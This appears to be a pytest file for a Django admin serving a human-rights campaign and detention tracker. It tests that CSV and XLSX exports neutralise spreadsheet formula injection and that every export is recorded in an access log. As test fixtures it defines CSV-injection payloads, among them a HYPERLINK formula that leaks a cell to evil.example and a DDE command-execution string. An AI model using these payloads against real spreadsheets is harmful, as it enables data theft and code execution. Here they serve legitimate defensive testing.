"""Exports open in spreadsheets: a cell that a spreadsheet would take for a formula is written
as text (a leading `'`), whichever record and column it comes from.

Signatories come from partners' files and public petition sheets, so a name or a note may be
`=HYPERLINK(...)` made to leak the sheet's other cells when clicked."""

import csv
import io

import openpyxl
import pytest
import tablib
from django.contrib import admin
from django.urls import reverse

from campaigns.models import Campaign, Letter, LetterResponse, Organization, Person, Signature
from campaigns.services import campaign_save
from config.exports import EXPORT_FORMATS, NeutralisingFormat, neutralise
from tests.campaigns.factories import (
    CampaignFactory,
    LetterFactory,
    LetterResponseFactory,
    OrganizationFactory,
    PersonFactory,
    SignatureFactory,
)
from tests.tracker.factories import CaseEventFactory, DetainedPersonFactory
from tracker.accesslog.models import AccessRecord
from tracker.models import CaseEvent, DetainedPerson, LegalLimit

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Click")'
DDE = "=cmd|' /C calc'!A0"
PLUS = "+SUM(1+1)"
MINUS = "-2+3"
AT = "@SUM(1+1)"
TAB = "\t=1+1"
CR = "\r=1+1"

EXPORTING = [m for m, a in admin.site._registry.items() if hasattr(a, "get_export_formats")]


def _export(client, model, file_format="csv") -> list[dict]:
    """The admin's export of `model` in `file_format` (csv or xlsx), every column chosen, read
    back as rows of {column: cell}."""
    url = reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_export")
    form = client.get(url).context["form"]
    chosen = {name: form[name].value() for name in form.fields}
    index = next(i for i, title in form.fields["format"].choices if title.lower() == file_format)
    response = client.post(
        url, {**{k: v for k, v in chosen.items() if v not in (None, False)}, "format": index}
    )
    assert response.status_code == 200
    if file_format == "csv":
        assert response["Content-Type"] == "text/csv"
        text = response.content.decode("utf-8")
        assert text.startswith("\ufeff")  # so that Excel reads UTF-8 (Chinese names)
        return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header, *rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    return [{h: ("" if v is None else v) for h, v in zip(header, row, strict=True)} for row in rows]


FORMATS = pytest.mark.parametrize("file_format", ["csv", "xlsx"])


@pytest.fixture
def superuser_client(client, superuser):
    client.force_login(superuser)
    return client


def test_every_record_table_staff_edit_has_an_export_and_the_operational_ones_none():
    assert set(EXPORTING) == {
        Organization,
        Person,
        Campaign,
        Letter,
        Signature,
        LetterResponse,
        DetainedPerson,
        CaseEvent,
        LegalLimit,
    }
    # The access log above all: who read and exported what stays in Vigil.
    assert AccessRecord not in EXPORTING


@pytest.mark.parametrize("model", EXPORTING, ids=lambda m: m._meta.model_name)
def test_every_export_offers_only_formats_that_neutralise_formulas(model):
    formats = admin.site._registry[model].get_export_formats()
    assert formats
    assert all(issubclass(f, NeutralisingFormat) for f in formats)
    # No JSON, YAML, HTML or TSV: staff need spreadsheets, and those only widen what leaves.
    assert {f().get_title() for f in formats} <= {"csv", "xlsx"}
    assert formats == EXPORT_FORMATS


@FORMATS
def test_the_signatures_export_writes_a_signatorys_formulas_as_text(superuser_client, file_format):
    letter = LetterFactory(title=MINUS)
    SignatureFactory(letter=letter, organization=OrganizationFactory(name=HYPERLINK), note=PLUS)
    SignatureFactory(letter=letter, organization=None, person=PersonFactory(full_name=DDE))
    rows = _export(superuser_client, Signature, file_format)
    by_note = {row["note"]: row for row in rows}
    assert by_note["'" + PLUS]["organization"] == "'" + HYPERLINK
    assert by_note["'" + PLUS]["letter_title"] == "'" + MINUS
    assert by_note[""]["person_name"] == "'" + DDE


@FORMATS
def test_the_organizations_export_writes_formulas_as_text(superuser_client, file_format):
    OrganizationFactory(name=HYPERLINK, notes=AT, website="")
    rows = _export(superuser_client, Organization, file_format)
    assert [(r["name"], r["notes"]) for r in rows] == [("'" + HYPERLINK, "'" + AT)]


@FORMATS
def test_the_people_export_writes_formulas_as_text(superuser_client, file_format):
    PersonFactory(full_name=DDE, title=TAB, notes=CR, organization=OrganizationFactory(name=PLUS))
    [row] = _export(superuser_client, Person, file_format)
    assert row["full_name"] == "'" + DDE
    assert row["title"] == "'" + TAB
    assert row["notes"] == "'" + CR
    assert row["organization"] == "'" + PLUS


@FORMATS
def test_the_detained_persons_export_writes_formulas_as_text(superuser_client, file_format):
    DetainedPersonFactory(name=HYPERLINK, aliases=[DDE, "Li"], charges=MINUS)
    [row] = _export(superuser_client, DetainedPerson, file_format)
    assert row["name"] == "'" + HYPERLINK
    assert row["aliases"] == "'" + DDE + ";Li"
    assert row["charges"] == "'" + MINUS


@FORMATS
def test_the_letter_responses_export_writes_formulas_as_text(superuser_client, file_format):
    LetterResponseFactory(
        letter=LetterFactory(title=AT), person=PersonFactory(full_name=PLUS), summary=HYPERLINK
    )
    [row] = _export(superuser_client, LetterResponse, file_format)
    assert row["summary"] == "'" + HYPERLINK
    assert row["letter_title"] == "'" + AT
    assert row["person_name"] == "'" + PLUS


@FORMATS
def test_the_campaigns_export_writes_formulas_as_text(superuser_client, file_format):
    campaign_save(
        name=HYPERLINK,
        summary=PLUS,
        lead_organization=OrganizationFactory(name=DDE),
        detained_persons=[DetainedPersonFactory(name=AT), DetainedPersonFactory(name="刘霞")],
    )
    [row] = _export(superuser_client, Campaign, file_format)
    assert row["name"] == "'" + HYPERLINK
    assert row["summary"] == "'" + PLUS
    assert row["lead_organization_name"] == "'" + DDE
    # One cell, names by name, with its Chinese intact (CSV with a byte-order mark).
    assert row["detained_persons"] == "'" + AT + ";刘霞"


@FORMATS
def test_the_letters_export_writes_formulas_as_text(superuser_client, file_format):
    letter = LetterFactory(
        title=MINUS,
        campaign=CampaignFactory(name=TAB),
        author_organization=OrganizationFactory(name=CR),
        demands=HYPERLINK,
    )
    letter.recipients.set([PersonFactory(full_name=DDE)])
    [row] = _export(superuser_client, Letter, file_format)
    assert row["title"] == "'" + MINUS
    assert row["campaign_name"] == "'" + TAB
    assert row["author_organization_name"] == "'" + CR
    assert row["demands"] == "'" + HYPERLINK
    assert row["recipients"] == "'" + DDE


@FORMATS
def test_the_case_events_export_writes_formulas_as_text(superuser_client, file_format):
    CaseEventFactory(person=DetainedPersonFactory(name=PLUS), kind="hearing", description=HYPERLINK)
    [row] = _export(superuser_client, CaseEvent, file_format)
    assert row["description"] == "'" + HYPERLINK
    assert row["person_name"] == "'" + PLUS
    assert row["kind"] == "hearing"


@FORMATS
def test_the_legal_limits_export_writes_formulas_as_text(superuser_client, file_format):
    LegalLimit.objects.update_or_create(
        country="CN", status="rsdl", defaults={"max_days": 180, "legal_basis": DDE}
    )
    rows = _export(superuser_client, LegalLimit, file_format)
    [row] = [r for r in rows if (r["country"], r["status"]) == ("CN", "rsdl")]
    assert row["legal_basis"] == "'" + DDE


@pytest.mark.parametrize("model", EXPORTING, ids=lambda m: m._meta.model_name)
def test_every_export_is_recorded_in_the_access_log(superuser_client, superuser, model):
    _export(superuser_client, model, "xlsx")
    [record] = AccessRecord.objects.filter(action=AccessRecord.Action.EXPORT)
    assert (record.user, record.model) == (superuser, model._meta.label_lower)
    assert record.details["format"] == "xlsx"


@FORMATS
def test_ordinary_cells_are_exported_as_they_are(superuser_client, file_format):
    OrganizationFactory(name="Human Rights Watch", notes="a=b, 1+1 and -5 inside")
    [row] = _export(superuser_client, Organization, file_format)
    assert (row["name"], row["notes"]) == ("Human Rights Watch", "a=b, 1+1 and -5 inside")


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0958", "'+44 20 7946 0958"),  # kept whole, not stripped of its "+"
        ("-5", "'-5"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("x=1", "x=1"),
        ("", ""),
        (None, None),
        (5, 5),
        (-5, -5),  # a number in a typed format (XLSX) is a number, not a formula
    ],
)
def test_neutralise_prefixes_a_quote_to_text_a_spreadsheet_would_evaluate(value, written):
    assert neutralise(value) == written


def test_the_xlsx_format_writes_formulas_as_text_and_numbers_as_numbers():
    from config.exports import XLSX

    assert XLSX in EXPORT_FORMATS
    data = tablib.Dataset([HYPERLINK, PLUS, 7], headers=["name", "note", "n"])
    sheet = openpyxl.load_workbook(io.BytesIO(XLSX().export_data(data))).active
    assert [c.value for c in sheet[2]] == ["'" + HYPERLINK, "'" + PLUS, 7]
    assert [c.data_type for c in sheet[2]] == ["s", "s", "n"]
